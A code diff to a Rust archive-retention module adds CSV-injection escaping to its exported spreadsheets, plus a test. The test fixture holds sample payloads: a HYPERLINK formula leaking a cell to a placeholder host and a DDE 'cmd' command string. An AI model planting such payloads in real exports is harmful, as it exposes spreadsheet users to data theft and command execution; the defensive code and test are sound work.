@@ -85,6 +85,23 @@ fn csv_err(e: impl ToString) -> RetentionError {
     }
 }
 
+/// A cell as written to CSV: one that a spreadsheet would read as a
+/// formula — starting with `=`, `+`, `-`, `@`, a tab or a carriage return —
+/// gets a leading apostrophe (OWASP, "CSV injection"), so a title such as
+/// `=HYPERLINK(…)` is shown as text, never run.
+pub fn csv_cell(s: String) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s
+    }
+}
+
+/// Every cell of a row through [`csv_cell`].
+fn safe<const N: usize>(row: [String; N]) -> [String; N] {
+    row.map(csv_cell)
+}
+
 /// The inventory as CSV: UTF-8 with a byte order mark (so Excel reads the
 /// diacritics), `;`-separated, the Anexa 2 header then one row per dossier.
 pub fn inventory_csv(items: &[Listed]) -> Result<Vec<u8>> {
@@ -93,7 +110,7 @@ pub fn inventory_csv(items: &[Listed]) -> Result<Vec<u8>> {
         .from_writer(b"\xEF\xBB\xBF".to_vec());
     w.write_record(COLUMNS).map_err(csv_err)?;
     for (i, l) in items.iter().enumerate() {
-        w.write_record(row(i + 1, l)).map_err(csv_err)?;
+        w.write_record(safe(row(i + 1, l))).map_err(csv_err)?;
     }
     w.into_inner().map_err(csv_err)
 }
@@ -302,7 +319,7 @@ pub fn destruction_csv(r: &DestructionRecord) -> Result<Vec<u8>> {
             d.removed.iter().map(String::as_str).collect()
         };
         for o in objects {
-            w.write_record([
+            w.write_record(safe([
                 (i + 1).to_string(),
                 d.cota.clone(),
                 d.indicativ.clone(),
@@ -312,7 +329,7 @@ pub fn destruction_csv(r: &DestructionRecord) -> Result<Vec<u8>> {
                 r.approval.clone(),
                 o.to_string(),
                 d.seq.to_string(),
-            ])
+            ]))
             .map_err(csv_err)?;
         }
     }
@@ -407,7 +424,7 @@ pub fn due_csv(items: &[Listed]) -> Result<Vec<u8>> {
     ])
     .map_err(csv_err)?;
     for l in items {
-        w.write_record([
+        w.write_record(safe([
             l.cota.clone(),
             l.inventory.clone(),
             l.department.clone(),
@@ -420,8 +437,79 @@ pub fn due_csv(items: &[Listed]) -> Result<Vec<u8>> {
             l.pages.to_string(),
             l.bytes.to_string(),
             l.location.clone(),
-        ])
+        ]))
         .map_err(csv_err)?;
     }
     w.into_inner().map_err(csv_err)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use arhiva_store::RetentionTerm;
+
+    fn listed(title: &str, location: &str) -> Listed {
+        Listed {
+            cota: "PMA-00001".into(),
+            inventory: "inv".into(),
+            department: "Contabilitate".into(),
+            indicativ: "III/1".into(),
+            title: title.into(),
+            first_year: 1998,
+            last_year: 2001,
+            sheets: Some(12),
+            term: RetentionTerm::Years(10),
+            since: time::Date::from_calendar_date(2012, time::Month::January, 1).expect("date"),
+            pages: 3,
+            bytes: 100,
+            location: location.into(),
+            notes: String::new(),
+        }
+    }
+
+    fn cells(csv: &[u8]) -> Vec<Vec<String>> {
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .has_headers(true)
+            .from_reader(&csv[3..]);
+        r.records()
+            .map(|rec| rec.expect("record").iter().map(str::to_string).collect())
+            .collect()
+    }
+
+    #[test]
+    fn formulas_in_exported_cells_are_neutralised() {
+        let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+        let items = [
+            listed(evil, "+cmd|' /C calc'!A0"),
+            listed("-2+3", "@SUM(1)"),
+            listed("Hotărâri 1998-2001", "Sala 2"),
+        ];
+        for csv in [
+            inventory_csv(&items).expect("csv"),
+            due_csv(&items).expect("csv"),
+        ] {
+            let rows = cells(&csv);
+            assert_eq!(rows.len(), 3);
+            for row in &rows {
+                for cell in row {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "a cell a spreadsheet would run: {cell:?}"
+                    );
+                }
+            }
+            let all: Vec<&String> = rows.iter().flatten().collect();
+            assert!(
+                all.iter().any(|c| **c == format!("'{evil}")),
+                "kept as text"
+            );
+            assert!(
+                all.iter().any(|c| c.as_str() == "Hotărâri 1998-2001"),
+                "plain text untouched"
+            );
+        }
+        assert_eq!(csv_cell("\tx".into()), "'\tx");
+        assert_eq!(csv_cell("1998-2001".into()), "1998-2001");
+    }
 }
